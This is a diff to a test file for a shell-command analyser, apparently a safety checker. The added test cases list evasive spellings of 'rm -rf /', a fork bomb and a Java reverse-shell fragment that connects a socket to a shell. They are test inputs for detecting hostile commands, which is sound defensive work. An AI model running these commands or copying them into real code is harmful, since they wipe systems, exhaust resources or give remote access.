@@ -32,6 +32,12 @@ from tests.support.commands import facts_of, running
         "f() { f() { rm -rf /; }; f; }; f",
         "((rm -rf /))",
         "echo $((rm -rf /))",
+        "bash /dev/fd/3 3<<< 'rm -rf /'",
+        "exec 3<<< 'rm -rf /'; bash <&3",
+        "IFS=,; c=rm,-rf,/; $c",
+        "IFS=,; x=-rf,/; rm $x",
+        "sudo ld.so /bin/rm -rf /",
+        "printf 'x\\n/\\n' | xargs -I% rm -rf %",
     ],
 )
 def test_every_place_a_command_can_stand_is_walked(command: str) -> None:
@@ -50,6 +56,17 @@ def test_a_lone_word_in_double_parentheses_is_a_command_in_some_shells() -> None
 
 def test_recursion_is_not_a_bomb() -> None:
     assert "fork-bomb" not in facts_of("f() { sleep 1; f; }; f")
+    assert "fork-bomb" not in facts_of("f() { f() { f() { ls; }; f; }; f; }; f")
+
+
+def test_a_bomb_in_a_spelling_that_only_some_shells_take() -> None:
+    assert "fork-bomb" in facts_of(":(){:|:&};:")
+
+
+def test_code_that_is_no_shell_text_is_looked_at() -> None:
+    code = 'Socket s = new Socket("192.0.2.7", 1); new ProcessBuilder("/bin/sh").redirectErrorStream(true)'
+    assert "reverse-shell" in facts_of(code)
+    assert not facts_of('Map m = new Map("a", 1); m.put("b")')
 
 
 def test_pipes_and_background() -> None:
